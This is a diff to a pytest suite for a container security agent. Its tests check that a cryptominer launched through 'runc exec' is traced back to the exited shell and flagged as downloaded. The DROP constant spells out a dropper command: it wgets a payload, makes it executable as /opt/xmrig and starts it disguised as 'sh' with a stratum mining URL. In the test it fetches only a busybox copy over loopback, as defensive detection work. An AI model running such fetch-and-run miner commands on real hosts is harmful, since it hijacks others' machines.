@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import shlex
 import subprocess
+import time
 from pathlib import Path
 
 import pytest
@@ -93,31 +94,78 @@ def test_a_process_started_by_runc_exec_reports_entry_exec_and_the_exec_d_comman
     assert root.pid != init
 
 
-def test_an_exec_d_miner_orphaned_to_the_init_is_unknown_not_init(tmp_path: Path) -> None:
-    # `kubectl exec pod -- sh -c '(./miner &)'`: the subshell exits at once and the kernel hands
-    # the miner to the container's init; /proc alone would now read "Init".
+def _runc_exec(tmp_path: Path, command: str) -> None:
+    """``runc exec`` of ``/bin/sh -c command`` into the test's one container, to its end."""
+    state = tmp_path / "state"
+    (name,) = [entry.name for entry in state.iterdir()]
+    subprocess.run(
+        [require_tool("runc"), "--root", str(state), "exec", name, "/bin/sh", "-c", command],
+        check=True,
+        timeout=10,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+
+
+def test_an_exec_d_miner_orphaned_to_the_init_reports_exec_through_the_exited_shell(
+    tmp_path: Path,
+) -> None:
+    # `kubectl exec pod -- sh -c './miner &'`: the exec'd shell exits at once and the kernel
+    # hands the miner to the container's init; /proc alone would now read "Init". The shell
+    # lived well under a millisecond: its command line was never readable, but its fork from
+    # runc and its exit were events, remembered past its exit.
     require_root("runc containers and the proc connector")
-    runc = require_tool("runc")
     with (
         running_agent(make_policy()) as running,
         runc_container(tmp_path, "sleep 12") as (pod, init),
     ):
-        state = tmp_path / "state"
-        (name,) = [entry.name for entry in state.iterdir()]
-        subprocess.run(
-            [runc, "--root", str(state), "exec", name, "/bin/sh", "-c", f"P=stratum; ({MINING} &)"],
-            check=True,
-            timeout=10,
-            stdout=subprocess.DEVNULL,
-            stderr=subprocess.DEVNULL,
-        )
+        _runc_exec(tmp_path, f"P=stratum; {MINING} &")
         found = running.sink.wait_for_match(
             lambda f: f.pod_uid == pod.uid and _miner(f, init), 10, what="the orphaned miner"
         )
     assert found.ancestry is not None
-    assert found.ancestry.entry is Entry.UNKNOWN
-    assert "orphaned" in found.ancestry.why
-    assert [link.pid for link in found.ancestry.lineage] == [init]
+    assert found.ancestry.entry is Entry.EXEC, found.ancestry.why
+    (shell,) = found.ancestry.lineage
+    assert shell.exited is True
+    assert shell.pid not in (init, found.pid)
+    assert shell.started_at is not None
+    assert shell.command_line in (None, f"/bin/sh -c P=stratum; {MINING} &")
+
+
+# Fetched by an exec'd shell from a server the init runs inside the container's own network
+# namespace (its loopback only); the shell starts the payload in the background and exits. The
+# leading sleep stands in for a real download's time: a shell that lives past the exec layer's
+# 10 ms settle has its command line read, and it is kept after the shell exits.
+SERVE = (
+    "mkdir -p /srv /opt && cp /bin/busybox /srv/payload &&"
+    " busybox httpd -p 127.0.0.1:8080 -h /srv && sleep 12"
+)
+DROP = (
+    "sleep 0.3; busybox wget -q -O /opt/xmrig http://127.0.0.1:8080/payload"
+    " && busybox chmod +x /opt/xmrig && P=stratum &&"
+    ' (exec -a sh /opt/xmrig -c "sleep 6; : $P+tcp://127.0.0.1:3333 --donate-level=1") &'
+)
+
+
+def test_an_exec_d_dropper_that_exited_is_named_as_the_downloader(tmp_path: Path) -> None:
+    require_root("runc containers on overlayfs and the proc connector")
+    with (
+        running_agent(make_policy()) as running,
+        runc_container(tmp_path, SERVE, overlay=True) as (pod, init),
+    ):
+        time.sleep(0.5)  # the server is up
+        _runc_exec(tmp_path, DROP)
+        found = running.sink.wait_for_match(
+            lambda f: f.pod_uid == pod.uid and _miner(f, init) and f.executable == "/opt/xmrig",
+            10,
+            what="the dropped miner",
+        )
+    assert found.ancestry is not None
+    assert found.ancestry.entry is Entry.EXEC, found.ancestry.why
+    (shell,) = found.ancestry.lineage
+    assert (shell.exited, shell.command_line) == (True, f"/bin/sh -c {DROP}")
+    assert found.ancestry.executable_origin is ExecutableOrigin.DOWNLOADED
+    assert found.ancestry.downloaded_by == f"/bin/sh -c {DROP}"
 
 
 # Written into the container after start: a copy of the image's busybox, run as "sh" from
